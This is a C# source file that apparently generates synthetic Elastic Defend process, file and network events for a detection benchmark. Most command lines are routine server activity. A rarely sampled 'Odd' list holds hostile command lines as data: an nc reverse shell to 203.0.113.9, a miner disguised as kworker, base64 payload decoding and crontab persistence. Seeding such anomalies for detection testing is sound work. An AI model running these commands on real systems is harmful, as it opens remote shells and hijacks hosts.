namespace Tocsin.Bench.EcsGenerator;

/// <summary>Elastic Defend on servers: processes, files, connections.</summary>
internal sealed class LinuxEndpoint(Dice dice, Machine[] machines) : Endpoint(dice, ("linux", "debian", "12.11"))
{
    private static readonly RunningProgram[] Usual = RunningProgram.Read(
        """
        /usr/bin/bash | /usr/sbin/cron | -c /usr/local/bin/backup.sh --incremental --job #
        /usr/bin/grep | /usr/bin/bash | -q ^active /var/lib/app/state.#
        /usr/bin/sed | /usr/bin/bash | -e s/foo/bar/ /etc/app/app.conf
        /usr/bin/python3.11 | /usr/lib/systemd/systemd | /opt/app/worker.py --queue default --concurrency 8
        /usr/bin/date | /usr/bin/bash | +%s
        /usr/bin/cat | /usr/bin/bash | /proc/#/stat
        /usr/lib/systemd/systemd-executor | /usr/lib/systemd/systemd | --deserialize # --log-level info
        /usr/bin/awk | /usr/bin/bash | {print $1}
        /usr/sbin/sshd | /usr/sbin/sshd | -D -R
        /usr/bin/ps | /opt/monitor/agent | -eo pid,ppid,comm,rss
        /usr/bin/df | /opt/monitor/agent | -P -k
        /usr/bin/git | /opt/runner/bin/Runner.Worker | fetch --no-tags --prune origin +refs/heads/main
        /usr/bin/dpkg | /usr/bin/apt-get | --status-fd # --configure --pending
        /usr/bin/curl | /opt/monitor/agent | -fsS --max-time 5 http://127.0.0.1:9100/metrics
        /usr/bin/tar | /usr/bin/bash | -czf /var/backups/app-#.tar.gz /var/lib/app
        /usr/bin/find | /usr/bin/bash | /var/log/app -mtime +7 -name *.log.gz
        /usr/bin/sudo | /usr/bin/bash | -n systemctl status app
        """
    );

    private static readonly RunningProgram[] Odd = RunningProgram.Read(
        """
        /usr/bin/nc | /usr/bin/bash | -e /bin/sh 203.0.113.9 4444
        /usr/bin/base64 | /usr/bin/bash | -d /tmp/.x#
        /tmp/.cache/kworker | /usr/bin/bash | -o stratum+tcp://203.0.113.7:3333
        /usr/bin/chmod | /usr/bin/bash | +x /dev/shm/.a#
        /usr/bin/crontab | /usr/bin/bash | /tmp/c#
        """
    );

    private static readonly string[] Paths =
    [
        "/var/log/app/app.log",
        "/var/lib/app/state",
        "/tmp/build",
        "/home/USER/.cache/pip",
        "/var/lib/dpkg/info",
        "/opt/runner/_work/app/obj",
        "/etc/app/conf.d",
    ];

    public void Write(Document document, long millis)
    {
        var machine = Dice.Skewed(machines);
        var user = Dice.Happens(0.7) ? "root" : Dice.Skewed(machine.Users);
        var program = Dice.Happens(0.0004) ? Dice.Any(Odd) : Dice.Skewed(Usual);
        switch (Dice.Next(100))
        {
            case < 62:
                WriteProcess(document, millis, machine, user, program);
                break;
            case < 85:
                WriteFile(document, millis, machine, user, program);
                break;
            default:
                WriteNetwork(document, millis, machine, user, program);
                break;
        }
    }

    private void WriteProcess(Document document, long millis, Machine machine, string user, RunningProgram program)
    {
        var action = Dice.Skewed(["exec", "end", "fork"]);
        var type = action == "end" ? "end" : "start";
        Begin(document, "process", "process", type, action, millis, machine);
        var arguments = program.Fill(Dice);
        document.Open("process").Text("name", program.Name).Text("executable", program.Path);
        document.Number("pid", Dice.Next(60_000)).Text("entity_id", Dice.Hex(28));
        document.Text("command_line", $"{program.Name} {arguments}").Text("working_directory", "/");
        document.List("args", [program.Name, .. arguments.Split(' ', StringSplitOptions.RemoveEmptyEntries)]);
        document.Number("args_count", arguments.Count(c => c == ' ') + 2).Flag("interactive", Dice.Happens(0.05));
        document.Open("parent").Text("name", program.ParentName).Text("executable", program.Parent);
        document.Number("pid", Dice.Next(60_000)).Text("entity_id", Dice.Hex(28)).List("args", program.ParentName);
        document.Text("command_line", program.ParentName).Close();
        document.Open("group_leader").Text("name", program.ParentName).Text("executable", program.Parent).Close();
        document.Open("session_leader").Text("name", "systemd").Text("executable", "/usr/lib/systemd/systemd").Close();
        document.Open("entry_leader").Text("name", "systemd").Open("entry_meta").Text("type", "init").Close().Close();
        document.Open("hash").Text("sha256", Dice.Hex(64)).Close().Close();
        User(document, user);
    }

    private void WriteFile(Document document, long millis, Machine machine, string user, RunningProgram program)
    {
        var action = Dice.Skewed(["creation", "deletion", "rename"]);
        Begin(document, "file", "file", action == "creation" ? "creation" : "change", action, millis, machine);
        Actor(document, program);
        var folder = Dice.Skewed(Paths).Replace("USER", user, StringComparison.Ordinal);
        var name = $"{Dice.Hex(6)}.{Dice.Skewed(["log", "tmp", "o", "json", "pyc", "list", "so", "sh"])}";
        document.Open("file").Text("name", name).Text("path", $"{folder}/{name}");
        document.Text("extension", name[7..]).Number("size", Dice.Next(90_000)).Close();
        User(document, user);
    }

    private void WriteNetwork(Document document, long millis, Machine machine, string user, RunningProgram program)
    {
        Begin(
            document,
            "network",
            "network",
            "start",
            Dice.Skewed(["connection_attempted", "disconnect_received"]),
            millis,
            machine
        );
        Actor(document, program);
        Connection(
            document,
            machine,
            32768 + Dice.Next(28_000),
            $"10.26.0.{Dice.Next(120)}",
            Dice.Skewed([5432, 443, 9092, 6379, 22])
        );
        User(document, user);
    }

    private void Actor(Document document, RunningProgram program)
    {
        document.Open("process").Text("name", program.Name).Text("executable", program.Path);
        document.Number("pid", Dice.Next(60_000)).Text("entity_id", Dice.Hex(28));
        document.Open("parent").Text("name", program.ParentName).Text("executable", program.Parent).Close().Close();
    }

    private static void User(Document document, string user) =>
        document.Open("user").Text("name", user).Text("id", user == "root" ? "0" : "1001").Close();
}
